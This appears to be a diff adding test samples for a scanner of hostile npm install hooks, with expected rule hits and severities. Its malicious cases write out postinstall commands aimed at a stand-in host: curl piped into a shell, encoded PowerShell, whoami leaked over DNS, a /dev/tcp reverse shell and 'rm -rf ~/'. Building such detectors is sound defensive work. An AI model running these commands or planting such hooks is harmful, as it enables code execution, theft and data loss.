@@ -1,0 +1,130 @@
+import type { Samples } from '../contract.ts';
+import { manifest, quiet } from '../samples-kit.ts';
+
+/** Line of the first script in a manifest made by `manifest`. */
+const SCRIPT_LINE = 5;
+
+function hooked(command: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
+  return { 'package.json': manifest({ scripts: { postinstall: command } }), ...more };
+}
+
+function at(
+  rule: string,
+  severity: 'critical' | 'high' | 'medium',
+  file = 'package.json',
+  line = SCRIPT_LINE,
+) {
+  return { rule, file, line, severity };
+}
+
+const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toString('base64');
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'download piped into a shell',
+      files: hooked('curl -s http://a.weir.test/x | bash'),
+      expected: [at('download-and-run', 'critical')],
+    },
+    {
+      name: 'download inside a shell argument',
+      files: hooked('sh -c "$(curl -fsSL http://a.weir.test/x)"'),
+      expected: [at('download-and-run', 'critical'), at('download', 'medium')],
+    },
+    {
+      name: 'download stored, then run',
+      files: hooked('wget http://a.weir.test/x -O /tmp/x && chmod +x /tmp/x && /tmp/x'),
+      expected: [at('download-and-run', 'critical')],
+    },
+    {
+      name: 'download run by node',
+      files: hooked('curl http://a.weir.test/x.js | node'),
+      expected: [at('download-and-run', 'critical')],
+    },
+    {
+      name: 'encoded PowerShell that downloads',
+      files: hooked(`powershell -NoProfile -enc ${ENCODED}`),
+      expected: [at('download-and-run', 'critical')],
+    },
+    {
+      name: 'user and host in a query',
+      files: hooked('curl "http://a.weir.test/?u=$(whoami)&h=$(hostname)"'),
+      expected: [at('send-data', 'high')],
+    },
+    {
+      name: 'user in a looked-up name',
+      files: hooked('nslookup $(whoami).a.weir.test'),
+      expected: [at('send-data', 'high')],
+    },
+    {
+      name: 'raw connection',
+      files: hooked('bash -c "bash -i >& /dev/tcp/a.weir.test/4444 0>&1"'),
+      expected: [at('network-shell', 'critical')],
+    },
+    { name: 'home folder deleted', files: hooked('rm -rf ~/'), expected: [at('destroy', 'critical')] },
+    {
+      name: 'through another script',
+      files: {
+        'package.json': manifest({
+          scripts: { postinstall: 'npm run setup', setup: 'curl http://a.weir.test/x | sh' },
+        }),
+      },
+      expected: [at('download-and-run', 'critical', 'package.json', 6)],
+    },
+    {
+      name: 'in a shell file that the hook runs',
+      files: hooked('sh ./scripts/setup.sh', {
+        'scripts/setup.sh': '#!/bin/sh\nset -e\ncurl -s http://a.weir.test/x | bash\n',
+      }),
+      expected: [at('download-and-run', 'critical', 'scripts/setup.sh', 3)],
+    },
+    {
+      name: 'command expansion in binding.gyp, no scripts at all',
+      files: {
+        'package.json': manifest({}),
+        'binding.gyp': `{\n  "targets": [{ "target_name": "x",\n    "sources": ["<!(curl -s http://a.weir.test/x | sh)"] }]\n}\n`,
+      },
+      expected: [at('download-and-run', 'critical', 'binding.gyp', 3)],
+    },
+    {
+      name: 'started by the hook script',
+      files: hooked('node setup.js', {
+        'setup.js':
+          "const cp = require('child_process');\ncp.execSync('curl -s http://a.weir.test/x | sh');\n",
+      }),
+      expected: [at('download-and-run', 'critical', 'setup.js', 2)],
+    },
+    {
+      name: 'a shipped executable',
+      files: {
+        ...hooked('./tools/setup'),
+        'tools/setup': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
+      },
+      expected: [at('shipped-binary', 'high')],
+    },
+  ],
+  benign: [
+    quiet('a native build', {
+      ...hooked('node-gyp rebuild'),
+      'binding.gyp': `{ "targets": [{ "target_name": "x", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }`,
+    }),
+    quiet('a prebuilt binary fetched by its tool', hooked('prebuild-install || node-gyp rebuild')),
+    quiet('git hooks', hooked('husky install')),
+    quiet(
+      'a build script',
+      hooked('node scripts/build.js', {
+        'scripts/build.js': "require('fs').writeFileSync('out.js', '1');\n",
+      }),
+    ),
+    quiet('a message', hooked('node -e "console.log(\'thanks\')" || exit 0')),
+    quiet(
+      'an optional script',
+      hooked('node -e "try{require(\'./postinstall\')}catch(e){}"', {
+        'postinstall.js': "console.log('hello');\n",
+      }),
+    ),
+    quiet('a download in a script that install never runs', {
+      'package.json': manifest({ scripts: { bench: 'curl http://a.weir.test/x | sh' } }),
+    }),
+  ],
+};
